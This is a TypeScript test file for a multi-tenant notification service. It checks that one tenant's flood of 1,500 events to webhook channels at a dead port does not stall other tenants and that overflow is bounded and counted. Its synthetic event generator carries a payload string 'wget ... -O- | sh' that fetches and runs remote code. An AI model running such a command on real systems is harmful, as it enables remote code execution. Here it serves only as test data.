/** One request that makes as many messages as it can must not hold up other tenants: neither their answers nor their messages. */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { allowReceivers } from '../../src/cases/receivers.ts';
import { channelDocs } from '../../src/core/doc-kinds.ts';
import { mostOpenUrgent } from '../../src/core/outbox-bound.ts';
import { newWebhookSecret } from '../../src/notify/channels/webhook.ts';
import { answer, openReceiver, until } from '../support/notify/receiver.ts';
import { openTestServer, type TestServer, type TestUser } from '../support/server.ts';

const events = 1500;
const channels = 100;

/** Nobody listens there. */
const deadPort = 1025;

async function addChannels(server: TestServer, user: TestUser, count: number, url: string): Promise<void> {
  for (let n = 0; n < count; n++) {
    const id = `ch-${user.id}-${n}`;
    const settings = { url, secret: newWebhookSecret() };
    const config = {
      id,
      name: id,
      channel: 'webhook',
      settings,
      enabled: true,
      filter: {},
      disabled_reason: null,
    };
    await server.store
      .of(user.id)
      .createDoc(channelDocs.create({ id, user_id: user.id }, config, '2026-01-01'));
  }
}

const attack = (n: number) => ({
  // Each of another network, service and kind of act, so that they are no wave.
  service: `svc-${n}`,
  source_ip: `203.${n % 200}.${Math.floor(n / 200)}.7`,
  activity: 'command',
  payload: `wget http://198.51.100.1/x${n} -O- | sh`,
  timestamp: new Date().toISOString(),
});

const randomHex = (bytes: number): string => randomBytes(bytes).toString('hex');
const percentile = (values: readonly number[], share: number): number =>
  values.toSorted((a, b) => a - b)[Math.floor((values.length - 1) * share)] ?? 0;

describe(`${events} events for ${channels} channels to a dead port, in one request`, () => {
  it('let other tenants be answered and told at once, are bounded, and none is lost silently', async (t) => {
    const receiver = await openReceiver(answer(204));
    t.after(() => receiver.close());
    const server = await openTestServer({ env: { NOTIFY_ALLOW_PRIVATE: '127.0.0.1' } });
    t.after(() => server.close());
    const [hostile, other] = [await server.createUser(), await server.createUser()];
    // Where anybody may register, the setting holds for the oldest account; the operator allows the others.
    for (const { id } of [hostile, other])
      await allowReceivers({ store: server.store, now: () => new Date().toISOString(), randomHex }, id, [
        '127.0.0.1',
      ]);
    await addChannels(server, hostile, channels, `http://127.0.0.1:${deadPort}/`);
    await addChannels(server, other, 1, `${receiver.url}/hook`);
    const [node, theirs] = [await server.createNode(hostile), await server.createNode(other)];

    let asked = 0;
    const acknowledge = async (): Promise<number> => {
      const beforeMs = performance.now();
      const body = [attack(5000 + asked++)];
      const sent = await server.call('POST', '/api/events', { headers: theirs.headers, body });
      assert.equal(sent.status, 200);
      return performance.now() - beforeMs;
    };
    // How long it takes on this machine at this moment when nothing else is going on.
    const calmMs: number[] = [];
    for (let n = 0; n < 20; n++) calmMs.push(await acknowledge());
    await until(() => receiver.seen.length >= 10);

    let isDone = false;
    let floodMs = 0;
    const startedMs = performance.now();
    const flood = server
      .call('POST', '/api/events', {
        headers: node.headers,
        body: Array.from({ length: events }, (_, n) => attack(n)),
      })
      .finally(() => {
        isDone = true;
        floodMs = performance.now() - startedMs;
      });
    const floodedMs: number[] = [];
    const toldMs: number[] = [];
    for (let n = 0; !isDone || performance.now() - startedMs < 4000; n++) {
      const beforeMs = performance.now();
      const told = receiver.seen.length;
      floodedMs.push(await acknowledge());
      if (n < 12) {
        await until(() => receiver.seen.length > told);
        toldMs.push(performance.now() - beforeMs);
      }
      await new Promise((resolve) => setTimeout(resolve, 40));
    }
    assert.equal((await flood).status, 200);
    const p99 = percentile(floodedMs, 0.99);
    const mostTold = Math.max(...toldMs);
    t.diagnostic(
      `the flood took ${Math.round(floodMs)} ms; meanwhile acknowledged ${floodedMs.length} times: p99 ${Math.round(p99)} ms (calm: median ${Math.round(percentile(calmMs, 0.5))} ms); told within ${Math.round(mostTold)} ms`,
    );
    // No time is asserted, since machines differ: whoever waits for the flood waits as long as it takes.
    assert.ok(
      p99 < floodMs / 4,
      `acknowledgements of another tenant: p99 ${Math.round(p99)} ms of ${floodMs}`,
    );
    assert.ok(mostTold < floodMs / 2, `messages of another tenant: ${Math.round(mostTold)} ms of ${floodMs}`);

    // What waits is bounded, and the rest is counted.
    const tenant = server.store.of(hostile.id);
    const channel_id = `ch-${hostile.id}-7`;
    let waiting = 0;
    let folded = 0;
    for (let cursor: string | null = null; ; ) {
      const page: Awaited<ReturnType<typeof tenant.deliveries>> = await tenant.deliveries(
        { channel_id },
        { limit: 200, cursor },
      );
      for (const { notice, occasion } of page.items)
        if (occasion === 'overflow') folded += notice.folded?.count ?? 0;
        else waiting++;
      cursor = page.next_cursor;
      if (cursor === null) break;
    }
    assert.ok(waiting <= mostOpenUrgent, `${waiting} wait`);
    const told = await server.store.of(hostile.id).incidents({}, { limit: 1 });
    assert.equal(told.items.length, 1);
    assert.ok(folded > 0 && waiting + folded >= events, `${waiting} and ${folded} counted`);
  });
});
